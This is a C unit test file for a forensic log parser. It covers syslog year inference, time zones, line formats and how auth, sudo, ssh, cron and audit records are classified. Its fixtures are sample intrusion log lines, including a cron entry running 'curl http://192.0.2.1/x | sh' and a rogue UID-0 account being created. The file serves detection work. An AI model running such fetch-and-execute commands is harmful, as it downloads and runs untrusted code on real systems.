/* SPDX-License-Identifier: Apache-2.0 */
/* Syslog: forms of lines, the year that is not written, who did what. */
#include "unit/parse_kit.h"

static int64_t utc(const char *s)
{
	int64_t ns;

	assert_true(time_parse(bytes_str(s), &ns));
	return ns;
}

static struct parsed read_log(const char *text, const char *mtime)
{
	struct parse_input about = {.path = bytes_str("/var/log/auth.log"),
				    .mtime_ns = utc(mtime),
				    .taken_ns = utc(mtime)};

	return parse_text("syslog", text, &about);
}

static void assert_times(struct parsed *p, const char *const *want)
{
	for (size_t i = 0; want[i]; i++) {
		char t[TIME_TEXT_MAX];

		assert_true(i < p->n_events);
		if (p->events[i].e.time_ns != utc(want[i]))
			fail_msg("event %zu is of %s, not %s", i,
				 time_format(p->events[i].e.time_ns, TIME_US,
					     t),
				 want[i]);
	}
}

static void years_turn_backwards_from_the_last(void **state UNUSED)
{
	static const char *const want[] = {
		"2012-12-30T10:00:00Z", "2012-12-31T23:59:59Z",
		"2013-01-01T00:00:01Z", "2013-01-02T10:00:00Z", NULL};
	struct parsed p = read_log("Dec 30 10:00:00 h a: 1\n"
				   "Dec 31 23:59:59 h a: 2\n"
				   "Jan  1 00:00:01 h a: 3\n"
				   "Jan 2 10:00:00 h a: 4\n",
				   "2013-01-02T10:00:00Z");

	assert_times(&p, want);
	assert_true(p.events[0].e.year_deduced);
	assert_int_equal(p.events[0].e.source, SOURCE_ASSUMED);
	parsed_release(&p);
}

static void years_know_leap_days_and_clocks(void **state UNUSED)
{
	static const char *const leap[] = {"2020-02-29T01:15:43Z",
					   "2020-03-01T00:00:00Z",
					   "2021-01-05T00:00:00Z", NULL};
	/* A clock that went back an hour is no year. */
	static const char *const back[] = {"2022-10-30T02:59:59Z",
					   "2022-10-30T02:00:00Z", NULL};
	/* Nothing is later than the file. */
	static const char *const old[] = {"2021-11-11T00:00:00Z", NULL};
	struct parsed p = read_log("Feb 29 01:15:43 h a: x\n"
				   "Mar  1 00:00:00 h a: y\n"
				   "Jan  5 00:00:00 h a: z\n",
				   "2021-01-05T12:00:00Z");

	assert_times(&p, leap);
	parsed_release(&p);
	p = read_log("Oct 30 02:59:59 h a: x\nOct 30 02:00:00 h a: y\n",
		     "2022-11-01T00:00:00Z");
	assert_times(&p, back);
	parsed_release(&p);
	p = read_log("Nov 11 00:00:00 h a: x\n", "2022-08-14T10:00:00Z");
	assert_times(&p, old);
	parsed_release(&p);
}

/* Years turn by the clock of the host, and each line has the offset of its own
 * day: summer goes over New Year there. */
static void years_are_those_of_the_zone(void **state UNUSED)
{
	static const char *const want[] = {
		"2022-07-01T02:00:00Z", "2023-04-01T15:50:00Z",
		"2023-04-01T16:05:00Z", "2023-12-31T12:30:00Z",
		"2023-12-31T13:30:00Z", NULL};
	struct zone *zone =
		zone_of(bytes_str("AEST-10AEDT,M10.1.0,M4.1.0/3"));
	struct local_clock clock = clock_of(zone);
	struct parse_input about = {.taken_ns = TIME_UNKNOWN,
				    .mtime_ns = utc("2023-12-31T14:00:00Z"),
				    .clock = &clock};
	struct parsed p;

	p = parse_text("syslog",
		       "Jul  1 12:00:00 h a: winter\n"
		       "Apr  2 02:50:00 h a: the first of two\n"
		       "Apr  2 02:05:00 h a: the second, by the order\n"
		       "Dec 31 23:30:00 h a: summer\n"
		       "Jan  1 00:30:00 h a: the next year, there\n",
		       &about);
	assert_times(&p, want);
	assert_int_equal(p.events[0].e.source, SOURCE_HOST);
	assert_int_equal(p.events[1].e.local, EVENT_EITHER);
	assert_int_equal(p.events[2].e.local, EVENT_SECOND);
	assert_int_equal(p.events[4].e.local, EVENT_ONCE);
	assert_true(p.events[4].e.year_deduced);
	parsed_release(&p);
	zone_free(zone);
}

static void forms_of_lines(void **state UNUSED)
{
	static const char *const want[] = {
		"2026-11-22T12:42:27.635516Z", "2026-11-22T10:42:28Z",
		"2026-11-22T12:42:29.003Z",    "2020-01-01T00:00:00Z",
		"2026-11-22T12:42:30Z",	       "2026-11-22T12:42:31.805Z",
		"2026-11-22T12:42:32Z",	       "2026-11-22T12:42:33Z",
		NULL};
	struct parsed p = read_log(
		"2026-11-22T12:42:27.635516+00:00 h sshd[1]: hello\r\n"
		"2026-11-22T12:42:28+0200 h cron[2]: hello\n"
		"\tgoes on\n"
		"<165>1 2026-11-22T12:42:29.003Z h app 7 ID4 "
		"[a b=\"c\\]d\"][e f=\"[g]\"] \xef\xbb\xbftext\n"
		"Jan 1 2020 00:00:00 h kernel: old\n"
		"<13>Nov 22 12:42:30 h tag: numbers\n"
		"MMM 22 12:42:31 h a: no month\n"
		"2026-11-22 12:42:31,805 zoe app[1]: no zone\n"
		"Sun Nov 22 12:42:32 2026 h app[1]: the day in front\n"
		"-- Boot 7 --\n"
		"Sun 2026-11-22 13:42:33 CET h app[1]: as journalctl has it\n",
		"2026-11-22T12:42:32Z");

	assert_int_equal(p.n_events, 8);
	assert_string_equal(p.events[7].message, "app[1]: as journalctl has it");
	assert_string_equal(p.events[5].message, "app[1]: no zone");
	assert_string_equal(p.events[6].message, "app[1]: the day in front");
	assert_int_equal(p.n_problems, 1);
	assert_times(&p, want);
	assert_string_equal(p.events[1].message,
			    "cron[2]: hello\n\tgoes on");
	assert_string_equal(p.events[2].message, "text");
	assert_string_equal(p.events[2].actor, "app");
	assert_string_equal(p.events[3].actor, "kernel");
	assert_false(p.events[3].e.year_deduced);
	assert_int_equal(p.events[0].e.source, SOURCE_OFFSET);
	assert_int_equal(p.events[0].e.offset, 0);
	assert_int_equal(p.events[0].e.length, 49);
	parsed_release(&p);
}

/* BusyBox, BSD's syslogd -v, metalog, syslog-ng with the year in front. */
static void forms_of_other_daemons(void **state UNUSED)
{
	static const char *const want[] = {
		"2026-11-22T12:42:27Z", "2026-11-22T12:42:28Z",
		"2026-11-22T12:42:29Z", "2026-11-22T12:42:30Z",
		"2015-11-13T13:40:01Z", NULL};
	struct parsed p = read_log(
		"Nov 22 12:42:27 h authpriv.info sshd[1]: Invalid user a from "
		"192.0.2.1 port 2\n"
		"Nov 22 12:42:28 <auth.info> h sshd[1]: Invalid user a from "
		"192.0.2.1 port 2\n"
		"Nov 22 12:42:29 <4.6> h sshd[1]: Invalid user a from "
		"192.0.2.1 port 2\n"
		"Nov 22 12:42:30 [sshd] Invalid user a from 192.0.2.1 port 2\n"
		"2015 Nov 13 13:40:01 h sshd[1]: Invalid user a from "
		"192.0.2.1 port 2\n",
		"2026-11-22T12:42:32Z");

	assert_int_equal(p.n_events, 5);
	assert_int_equal(p.n_problems, 0);
	assert_times(&p, want);
	for (size_t i = 0; i < 5; i++) {
		assert_string_equal(p.events[i].e.kind, "ssh.invalid-user");
		assert_string_equal(p.events[i].actor, "a");
	}
	assert_false(p.events[4].e.year_deduced);
	parsed_release(&p);
}

static void months_of_other_languages(void **state UNUSED)
{
	static const char *const want[] = {
		"2026-02-03T10:00:00Z", "2026-02-04T10:00:00Z",
		"2026-05-05T10:00:00Z", "2026-08-06T10:00:00Z",
		"2026-10-07T10:00:00Z", "2026-11-08T10:00:00Z", NULL};
	struct parsed p = read_log("f\xc3\xa9vr. 3 10:00:00 h a: 1\n"
				   "f\xe9vr.  4 10:00:00 h a: 2\n"
				   "mai 05 10:00:00 h a: 3\n"
				   "ao\xc3\xbbt 6 10:00:00 h a: 4\n"
				   "Okt  7 10:00:00 h a: 5\n"
				   "nov. 8 10:00:00 h a: 6\n",
				   "2026-11-22T12:00:00Z");

	assert_int_equal(p.n_problems, 0);
	assert_int_equal(p.n_events, 6);
	assert_times(&p, want);
	parsed_release(&p);
}

static const struct {
	const char *line, *kind, *actor;
} said[] = {
	{"sshd-session[5]: Accepted publickey for alice from 192.0.2.1 port "
	 "22 ssh2: ED25519 SHA256:abc",
	 "ssh.accepted", "alice"},
	{"sshd[5]: Failed password for invalid user bob from 192.0.2.1 port "
	 "22 ssh2",
	 "ssh.failed", "bob"},
	{"sshd[5]: Failed password for root from 192.0.2.9 port 1 from "
	 "203.0.113.5 port 22 ssh2",
	 "ssh.failed", "root from 192.0.2.9 port 1"},
	{"sshd[5]: Failed none for invalid user  from 192.0.2.1 port 2 ssh2",
	 "ssh.failed", ""},
	{"sshd[5]: message repeated 5 times: [ Failed password for root from "
	 "192.0.2.1 port 22 ssh2]",
	 "ssh.failed", "root"},
	{"sshd[5]: Invalid user web admin from 192.0.2.1 port 3",
	 "ssh.invalid-user", "web admin"},
	{"sshd[5]: error: PAM: Authentication failure for root from 192.0.2.1",
	 "ssh.failed", "root"},
	{"sshd[5]: error: maximum authentication attempts exceeded for root "
	 "from 192.0.2.1 port 4 ssh2 [preauth]",
	 "ssh.max-attempts", "root"},
	{"sshd[5]: Disconnected from authenticating user root 192.0.2.1 port "
	 "5 [preauth]",
	 "ssh.disconnected", "root"},
	{"sshd[5]: pam_unix(sshd:session): session opened for user "
	 "alice(uid=1000) by (uid=0)",
	 "session.opened", "alice"},
	{"sudo:    alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh -c "
	 "a;b",
	 "sudo", "alice"},
	{"sudo:      eve : user NOT in sudoers ; TTY=pts/1 ; PWD=/ ; "
	 "USER=root ; COMMAND=/bin/sh",
	 "sudo.denied", "eve"},
	{"sudo:      eve : 3 incorrect password attempts ; TTY=pts/1 ; "
	 "COMMAND=/bin/sh",
	 "sudo.denied", "eve"},
	{"su[9]: (to root) alice on pts/0", "su", "alice"},
	{"su[9]: FAILED SU (to root) eve on pts/0", "su.failed", "eve"},
	{"su[9]: Successful su for root by alice", "su", "alice"},
	{"useradd[7]: new user: name=mallory, UID=0, GID=0, home=/root",
	 "account.added", "mallory"},
	{"usermod[7]: add 'mallory' to group 'sudo'", "account.changed",
	 "mallory"},
	{"userdel[7]: delete user 'mallory'", "account.removed", "mallory"},
	{"passwd[7]: pam_unix(passwd:chauthtok): password changed for root",
	 "password.changed", "root"},
	{"CRON[8]: (root) CMD (curl http://192.0.2.1/x | sh)", "cron.run",
	 "root"},
	{"/usr/sbin/cron[8]: (bob) CMD (true)", "cron.run", "bob"},
	{"systemd-logind[1]: New session 4 of user alice.", "session.opened",
	 "alice"},
	{"kernel: [12.3] device eth0 entered promiscuous mode",
	 "kernel.promiscuous", "kernel"},
	{"kernel: rk: loading out-of-tree module taints kernel.",
	 "kernel.taint", "kernel"},
	{"kernel: x[9]: segfault at 0 ip 0", "kernel.segfault", "kernel"},
	{"sshd[5]: Accepted publickey for eve from 192.0.2.1 port 22 ssh2: "
	 "RSA-CERT SHA256:x ID eve from home (serial 0) CA RSA SHA256:y",
	 "ssh.accepted", "eve"},
	{"[sshd]: Failed password for bob from 192.0.2.1 port 22 ssh2",
	 "ssh.failed", "bob"},
	{"sshd[5]: User eve from 192.0.2.4 not allowed because not listed in "
	 "AllowUsers",
	 "ssh.refused", "eve"},
	{"sshd[5]: User child is on pid 44", "syslog", "sshd"},
	{"sshd[5]: error: Received disconnect from 192.0.2.1: 14: bye "
	 "[preauth]",
	 "ssh.disconnected", "sshd"},
	{"sshd[5]: Disconnecting: Too many authentication failures for root "
	 "[preauth]",
	 "ssh.max-attempts", "root"},
	{"sshd[5]: Disconnecting: bad packet length", "ssh.disconnected",
	 "sshd"},
	{"sshd[5]: error: PAM: authentication error for illegal user eve from "
	 "192.0.2.1 via 192.0.2.9",
	 "ssh.failed", "eve"},
	{"sshd[5]: error: PAM: User not known to the underlying "
	 "authentication module for illegal user eve from 192.0.2.1",
	 "ssh.failed", "eve"},
	{"sshd[5]: [ID 800047 auth.info] Failed keyboard-interactive for eve "
	 "from 192.0.2.1 port 22 ssh2",
	 "ssh.failed", "eve"},
	/* It repeats what was said before. */
	{"sshd[5]: input_userauth_request: invalid user eve [preauth]",
	 "syslog", "sshd"},
	{"sshd[5]: Connection closed by authenticating user eve 192.0.2.9 port "
	 "5 192.0.2.1 port 22 [preauth]",
	 "ssh.disconnected", "eve 192.0.2.9 port 5"},
	{"sshd[5]: Disconnecting invalid user eve 192.0.2.1 port 22: Change of "
	 "username: (a 192.0.2.9 port 5,ssh) [preauth]",
	 "ssh.disconnected", "eve"},
	{"sshd[5]: fatal: Read from socket failed: Connection reset by peer",
	 "ssh.disconnected", "sshd"},
	{"sshd[5]: ROOT LOGIN REFUSED FROM 192.0.2.1 port 22", "ssh.refused",
	 "root"},
	{"sshd[5]: User root not allowed because account is locked",
	 "ssh.refused", "root"},
	{"sshd[5]: refused connect from h.example (192.0.2.1)", "ssh.refused",
	 "sshd"},
	{"[sshd] User root from 192.0.2.1 not allowed because not listed in "
	 "AllowUsers",
	 "ssh.refused", "root"},
	{"[sshd][5] Failed password for eve from 192.0.2.1 port 22 ssh2",
	 "ssh.failed", "eve"},
	{"sshd[5]: Connection closed by 192.0.2.1 port 22 [preauth]",
	 "ssh.disconnected", "sshd"},
	{"sshd[5]: fatal: Timeout before authentication for 192.0.2.1 port 22",
	 "ssh.disconnected", "sshd"},
	{"sshd[5]: Unable to negotiate with 192.0.2.1 port 22: no matching "
	 "cipher found.",
	 "ssh.disconnected", "sshd"},
	{"sshd[5]: Starting session: command for eve from 192.0.2.1 port 22 "
	 "id 0",
	 "ssh.session", "eve"},
	{"sshd[5]: Close session: user eve from 192.0.2.1 port 22 id 0",
	 "session.closed", "eve"},
	{"dropbear[5]: Password auth succeeded for 'root' from 192.0.2.1:9",
	 "ssh.accepted", "root"},
	{"dropbear[5]: [5] Jul 10 23:53:52 Bad password attempt for 'root' "
	 "from 192.0.2.1:9",
	 "ssh.failed", "root"},
	{"dropbear[5]: Login attempt for nonexistent user from 192.0.2.1:9",
	 "ssh.invalid-user", "dropbear"},
	{"dropbear[5]: Login attempt for nonexistent user 'eve' from "
	 "192.0.2.1:9",
	 "ssh.invalid-user", "eve"},
	{"dropbear[5]: Exit before auth (user 'root', 10 fails): Max auth "
	 "tries reached - user 'root' from 192.0.2.1:9",
	 "ssh.max-attempts", "root"},
	{"dropbear[5]: Exit (root): Disconnect received", "ssh.disconnected",
	 "root"},
	{"login[5]: FAILED LOGIN (1) on '/dev/tty1' FOR 'eve', Authentication "
	 "failure",
	 "login.failed", "eve"},
	{"login[5]: LOGIN ON tty1 BY alice", "login", "alice"},
	{"login[5]: ROOT LOGIN  on '/dev/tty1'", "login", "root"},
	{"doas: alice ran command /bin/ksh as root from /home/alice", "doas",
	 "alice"},
	{"doas: failed auth for eve", "doas.denied", "eve"},
	{"doas[7]: command not permitted for eve: rm", "doas.denied", "eve"},
	{"pkexec[5]: alice: Executing command [USER=root] [TTY=unknown]",
	 "pkexec", "alice"},
	{"su: BAD SU eve to root on /dev/ttyp0", "su.failed", "eve"},
	{"su[9]: failed: ttyq4 changing from eve to root", "su.failed", "eve"},
	{"su: alice to root on /dev/ttyp1", "su", "alice"},
	{"su[9]: 'su root' failed for eve on /dev/pts/0", "su.failed", "eve"},
	{"userdel[7]: delete 'eve' from group 'sudo'", "account.changed",
	 "eve"},
	{"chsh[7]: changed user 'eve' shell to '/bin/zsh'", "account.changed",
	 "eve"},
	{"useradd[7]: failed adding user 'eve', data deleted",
	 "account.failed", "eve"},
	{"crond[8]: USER root pid  99 cmd run-parts /etc/periodic/15min",
	 "cron.run", "root"},
	{"atd[8]: Starting job 3 (a0000301c5b2d4) for user 'eve' (1000)",
	 "at.run", "eve"},
	{"systemd-logind[1]: New session '4' of user 'alice' with class "
	 "'user' and type 'tty'.",
	 "session.opened", "alice"},
	{"systemd-logind[1]: The system will reboot now!", "shutdown",
	 "systemd-logind"},
	{"kernel: [    0.000000] Linux version 6.1.0-9-amd64", "boot",
	 "kernel"},
	{"kernel: [ 2.5] [UFW BLOCK] IN=eth0 OUT= MAC= SRC=192.0.2.1 "
	 "DST=192.0.2.2 LEN=40",
	 "firewall.packet", "192.0.2.1"},
	/* Whoever asks it says so, too. */
	{"unix_chkpwd[68]: password check failed for user (root)",
	 "password.failed", "root"},
	{"sshd-session[5]: Accepted key ED25519 SHA256:x found at "
	 "/root/.ssh/authorized_keys:1",
	 "ssh.key", "sshd-session"},
	{"sshd-session[5]: kex_exchange_identification: Connection closed by "
	 "remote host",
	 "ssh.disconnected", "sshd-session"},
	{"sshd[5]: drop connection #0 from [192.0.2.1]:9 on [192.0.2.2]:22 "
	 "penalty: failed authentication",
	 "ssh.refused", "sshd"},
	{"usermod[7]: change user name 'eve' to 'mallory'", "account.changed",
	 "eve"},
	{"proftpd: (pam_unix) authentication failure; logname= uid=0 euid=0 "
	 "tty= ruser= rhost=192.0.2.1  user=mark",
	 "auth.failed", "mark"},
	{"sshd[5]: pam_sss(sshd:auth): authentication failure; logname= uid=0 "
	 "euid=0 tty=ssh ruser= rhost=192.0.2.1 user=alice",
	 "auth.failed", "alice"},
	{"sudo: pam_unix(sudo:auth): auth could not identify password for "
	 "[eve]",
	 "auth.failed", "eve"},
	{"sudo:   alice : sorry, you must have a tty to run sudo ; TTY=unknown "
	 "; PWD=/ ; USER=root ; COMMAND=/bin/ls",
	 "sudo.denied", "alice"},
	{"sshd(pam_unix)[5]: authentication failure; logname= uid=0 euid=0 "
	 "tty=ssh ruser= rhost=192.0.2.1  user=root",
	 "auth.failed", "root"},
	{"sshd[5]: PAM 2 more authentication failures; logname= uid=0 euid=0 "
	 "tty=ssh ruser= rhost=192.0.2.1  user=root",
	 "auth.failed", "root"},
	{"su[5]: pam_unix(su:auth): authentication failure; logname=eve "
	 "uid=1000 euid=0 tty=pts/0 ruser=eve rhost=  user=root",
	 "auth.failed", "root"},
	{"sshd[5]: pam_unix(sshd:auth): authentication failure; logname= "
	 "uid=0 euid=0 tty=ssh ruser= rhost=192.0.2.1",
	 "auth.failed", "sshd"},
	/* What a command says of itself refuses nothing, and grants nothing. */
	{"sudo:    alice : TTY=pts/0 ; PWD=/ ; USER=root ; TSID=000001 ; "
	 "COMMAND=/bin/grep command not allowed /x",
	 "sudo", "alice"},
	{"sudo:    alice : PWD=/tmp/user NOT in sudoers ; USER=root ; "
	 "COMMAND=/bin/sh",
	 "sudo", "alice"},
	{"sudo:    alice : a password is required ; PWD=/ ; USER=root ; "
	 "COMMAND=/bin/ls",
	 "sudo.denied", "alice"},
	{"su[9]: + /dev/pts/0 alice:root", "su", "alice"},
	{"su[9]: + pts/4 al-ice-root", "su", "al-ice"},
	{"su[9]: Authentication failed for root", "su.failed", "su"},
	{"su[9]: - /dev/pts/0 eve:root", "su.failed", "eve"},
	{"usermod[7]: unlock user 'eve' password", "account.changed", "eve"},
	{"gpasswd[7]: user eve added by root to group sudo",
	 "account.changed", "eve"},
	{"groupdel[7]: group 'devs' removed from /etc/group", "group.removed",
	 "devs"},
	{"passwd[7]: password for 'eve' changed by 'root'", "password.changed",
	 "eve"},
	{"crontab[7]: (eve) REPLACE (eve)", "cron.changed", "eve"},
	/* Only who may say it is believed. */
	{"myapp[1]: Accepted password for root from 192.0.2.1 port 22 ssh2",
	 "syslog", "myapp"},
	{"nginx: started", "syslog", "nginx"},
	{"no program at all", "syslog", ""},
};

static void lines_mean_something(void **state UNUSED)
{
	for (size_t i = 0; i < ARRAY_SIZE(said); i++) {
		char line[512];
		struct parsed p;

		(void)snprintf(line, sizeof line,
			       "2026-11-22T12:42:27Z host %s\n", said[i].line);
		p = read_log(line, "2026-11-22T12:42:27Z");
		assert_int_equal(p.n_events, 1);
		if (strcmp(p.events[0].e.kind, said[i].kind) != 0 ||
		    strcmp(p.events[0].actor, said[i].actor) != 0)
			fail_msg("%s: %s by '%s'", said[i].line,
				 p.events[0].e.kind, p.events[0].actor);
		assert_string_equal(p.events[0].message, said[i].line);
		parsed_release(&p);
	}
}

/* More lines that go on than such that begin. */
static void long_messages_are_syslog(void **state UNUSED)
{
	struct parsed p = parse_file(
		"syslog", "/srv/q7",
		"Aug 16 00:32:15 mac syslogd[314]: Configuration Notice:\n"
		"\tASL Module claims selected messages.\n"
		"\tThose messages may not appear.\n"
		"\tThey may elsewhere.\n");

	assert_int_equal(p.n_events, 1);
	parsed_release(&p);
}

static void other_texts_are_no_syslog(void **state UNUSED)
{
	static const char *const texts[] = {
		"#!/bin/sh\necho hello\n",
		"root:x:0:0:root:/root:/bin/bash\n",
		"", "\0\0\0\0", "Jan is a month\n", "Jan 32 00:00:00 h a: b\n"};

	for (size_t i = 0; i < ARRAY_SIZE(texts); i++) {
		struct parse_input in = {.content = bytes_str(texts[i]),
					 .mtime_ns = TIME_UNKNOWN,
					 .taken_ns = TIME_UNKNOWN};

		assert_null(parser_guess(&in));
	}
}

static void audit_joins_records(void **state UNUSED)
{
	static const char log[] =
		"type=SYSCALL msg=audit(1700000000.250:7): arch=c000003e "
		"syscall=59 success=yes a0=ff auid=1000 uid=0 comm=\"sh\"\n"
		"type=LOGIN msg=audit(1700000001.000:8): pid=1 uid=0 "
		"old auid=4294967295 new auid=0\n"
		"type=EXECVE msg=audit(1700000000.250:7): argc=3 a0=\"sh\" "
		"a1=\"-c\" a2=726D202D72\n"
		"type=USER_AUTH msg=audit(1700000002.5:9): pid=1 "
		"msg='op=PAM acct=\"eve\" res=failed'\x1dUID=\"root\"\n"
		"type=PROCTITLE msg=audit(1700000000.250:7): "
		"proctitle=7368002D63\n"
		"what is this\n";
	struct parse_input about = {.path = bytes_str("/var/log/audit/x"),
				    .mtime_ns = TIME_UNKNOWN,
				    .taken_ns = TIME_UNKNOWN};
	struct parsed p = parse_text("audit", log, &about);

	assert_int_equal(p.n_events, 3);
	assert_int_equal(p.n_problems, 1);
	assert_string_equal(p.events[0].e.kind, "exec");
	assert_string_equal(p.events[0].actor, "1000");
	assert_string_equal(p.events[0].message,
			    "SYSCALL arch=c000003e syscall=59 success=yes "
			    "a0=ff auid=1000 uid=0 comm=\"sh\" | EXECVE argc=3 "
			    "a0=\"sh\" a1=\"-c\" a2=\"rm -r\" | PROCTITLE "
			    "proctitle=\"sh -c\"");
	assert_true(p.events[0].e.time_ns == utc("2023-11-14T22:13:20.25Z"));
	assert_int_equal(p.events[0].e.precision_ns, NS_PER_MS);
	assert_int_equal(p.events[0].e.offset, 0);
	assert_string_equal(p.events[2].e.kind, "auth.failed");
	assert_string_equal(p.events[2].actor, "eve");
	parsed_release(&p);
}

static const struct {
	const char *record, *kind, *actor, *message;
} audits[] = {
	{"type=SYSCALL msg=audit(1700000000:7): syscall=59 auid=1000", "audit",
	 "1000", "SYSCALL syscall=59 auid=1000"},
	{"type=LOGIN msg=audit(1700000000.000:7): pid=1 old auid=1000 auid=0 "
	 "res=1",
	 "audit.login", "0", "LOGIN pid=1 old auid=1000 auid=0 res=1"},
	{"type=AVC msg=audit(1700000000.000:7): avc:  denied  { read } for "
	 "pid=1",
	 "selinux.denied", "", "AVC avc: denied { read } for pid=1"},
	{"type=AVC msg=audit(1700000000.000:7): avc:  granted  { read }",
	 "selinux.granted", "", "AVC avc: granted { read }"},
	{"type=AVC msg=audit(1700000000.000:7): apparmor=\"ALLOWED\" pid=1",
	 "apparmor", "", "AVC apparmor=\"ALLOWED\" pid=1"},
	{"type=AVC msg=audit(1700000000.000:7): apparmor=\"DENIED\" pid=1",
	 "apparmor.denied", "", "AVC apparmor=\"DENIED\" pid=1"},
	{"type=SOCKADDR msg=audit(1700000000.000:7): "
	 "saddr=02000050C00002070000000000000000",
	 "audit", "", "SOCKADDR saddr=192.0.2.7:80"},
	{"type=SOCKADDR msg=audit(1700000000.000:7): saddr="
	 "0A0001BB0000000020010DB800000000000000000000000100000000",
	 "audit", "", "SOCKADDR saddr=[2001:db8:0:0:0:0:0:1]:443"},
	{"type=USER_LOGIN msg=audit(1700000000.000:7): msg='op=login "
	 "acct=28756E6B6E6F776E207573657229 res=failed'",
	 "login.failed", "(unknown user)",
	 "USER_LOGIN msg='op=login acct=\"(unknown user)\" res=failed'"},
	{"type=USER_ERR msg=audit(1700000000.000:7): auid=0 msg='acct=\"?\" "
	 "res=failed'",
	 "audit", "0", "USER_ERR auid=0 msg='acct=\"?\" res=failed'"},
	{"type=SOCKADDR msg=audit(1700000000.000:7): saddr=0200", "audit", "",
	 "SOCKADDR saddr=0200"},
};

static void audit_says_what_it_was(void **state UNUSED)
{
	struct parse_input about = {.path = bytes_str("/var/log/audit/x"),
				    .mtime_ns = TIME_UNKNOWN,
				    .taken_ns = TIME_UNKNOWN};

	for (size_t i = 0; i < ARRAY_SIZE(audits); i++) {
		struct parsed p = parse_text("audit", audits[i].record, &about);

		assert_int_equal(p.n_problems, 0);
		assert_int_equal(p.n_events, 1);
		assert_string_equal(p.events[0].e.kind, audits[i].kind);
		assert_string_equal(p.events[0].actor, audits[i].actor);
		assert_string_equal(p.events[0].message, audits[i].message);
		assert_true(p.events[0].e.time_ns ==
			    utc("2023-11-14T22:13:20Z"));
		assert_int_equal(p.events[0].e.precision_ns,
				 i ? NS_PER_MS : NS_PER_S);
		parsed_release(&p);
	}
}

int main(void)
{
	static const struct CMUnitTest tests[] = {
		cmocka_unit_test(years_turn_backwards_from_the_last),
		cmocka_unit_test(years_know_leap_days_and_clocks),
		cmocka_unit_test(years_are_those_of_the_zone),
		cmocka_unit_test(forms_of_lines),
		cmocka_unit_test(forms_of_other_daemons),
		cmocka_unit_test(months_of_other_languages),
		cmocka_unit_test(lines_mean_something),
		cmocka_unit_test(long_messages_are_syslog),
		cmocka_unit_test(other_texts_are_no_syslog),
		cmocka_unit_test(audit_joins_records),
		cmocka_unit_test(audit_says_what_it_was),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
